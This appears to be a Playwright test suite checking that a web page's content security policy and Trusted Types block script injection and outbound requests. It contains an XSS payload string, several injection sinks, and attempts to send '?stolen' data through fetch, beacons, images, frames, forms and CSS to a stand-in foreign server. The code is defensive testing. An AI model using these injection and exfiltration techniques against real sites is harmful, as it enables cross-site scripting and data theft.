import type { Page } from '@playwright/test';
import { cards } from '../support/page/grid';
import { test as base, expect, openScenario } from '../support/page/test';
import { startForeignSite } from '../support/servers/startForeignSite';

/** The tests here do what an attacker could do through a hole in the page. */
const test = base.extend<{ foreign: Awaited<ReturnType<typeof startForeignSite>> }>({
  foreign: async ({ browserName: _browser }, use) => {
    const foreign = await startForeignSite();
    await use(foreign);
    foreign.stop();
  },
  allowedHosts: ({ foreign }, use) => use([new URL(foreign.origin).host]),
  breaksPolicy: true,
});

async function openPage(page: Page): Promise<void> {
  await openScenario(page, 'fifty');
  await expect(cards(page).first()).toBeVisible();
}

/** Tries every sink that turns text into markup or code. Returns the outcome of each. */
function tryMarkup(page: Page): Promise<Record<string, string>> {
  return page.evaluate(async () => {
    const hostile = '<img src=x onerror="document.title = \'run\'">';
    const script = document.createElement('script');
    const button = document.createElement('button');
    const sinks: Record<string, () => unknown> = {
      innerHTML: () => Object.assign(document.body, { innerHTML: hostile }),
      insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', hostile),
      'document.write': () => document.write(hostile),
      srcdoc: () => Object.assign(document.createElement('iframe'), { srcdoc: hostile }),
      'text of a script': () => Object.assign(script, { text: "document.title = 'run'" }),
      'address of a script': () => Object.assign(script, { src: '/evil.js' }),
      onclick: () => button.setAttribute('onclick', "document.title = 'run'"),
      policy: () => Reflect.get(window, 'trustedTypes').createPolicy('default', {}),
    };
    const outcomes: Record<string, string> = {};
    for (const [name, attempt] of Object.entries(sinks)) {
      try {
        attempt();
        outcomes[name] = 'done';
      } catch {
        outcomes[name] = 'refused';
      }
    }
    return outcomes;
  });
}

test('text becomes neither markup nor code', async ({ page }) => {
  await openPage(page);
  const outcomes = await tryMarkup(page);
  expect(Object.keys(outcomes).length).toBeGreaterThan(7);
  expect(new Set(Object.values(outcomes)), JSON.stringify(outcomes)).toEqual(new Set(['refused']));
  await expect(page).toHaveTitle('Deposit Steam items');
});

test('the page’s own policy holds where a host sends no headers', async ({ page }) => {
  await page.route('/', async (route) => {
    const answer = await route.fetch();
    await route.fulfill({ body: await answer.text(), contentType: 'text/html' });
  });
  await openPage(page);
  const { policy: _made, ...outcomes } = await tryMarkup(page);
  expect(new Set(Object.values(outcomes)), JSON.stringify(outcomes)).toEqual(new Set(['refused']));
});

test('injected elements, requests and forms reach no other host', async ({ page, foreign }) => {
  await openPage(page);
  const refused = await page.evaluate(async (origin) => {
    const directives: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => {
      directives.push(event.effectiveDirective);
    });
    const add = (name: string, properties: object) =>
      document.body.append(Object.assign(document.createElement(name), properties));
    await fetch(`${origin}/fetch?stolen`).catch(() => undefined);
    navigator.sendBeacon(`${origin}/beacon?stolen`);
    add('img', { src: `${origin}/image?stolen` });
    add('iframe', { src: `${origin}/frame?stolen` });
    add('video', { src: `${origin}/video?stolen` });
    add('link', { rel: 'stylesheet', href: `${origin}/style?stolen` });
    add('style', { textContent: `body { background: url(${origin}/css?stolen) }` });
    add('base', { href: `${origin}/` });
    const form = Object.assign(document.createElement('form'), { action: `${origin}/form?stolen` });
    document.body.append(form);
    form.submit();
    await new Promise((resolve) => setTimeout(resolve, 1_000));
    return [...new Set(directives)].sort();
  }, foreign.origin);
  expect(foreign.asked).toEqual([]);
  expect(refused).toEqual([
    'base-uri',
    'connect-src',
    'form-action',
    'frame-src',
    'img-src',
    'media-src',
    'style-src-elem',
  ]);
});
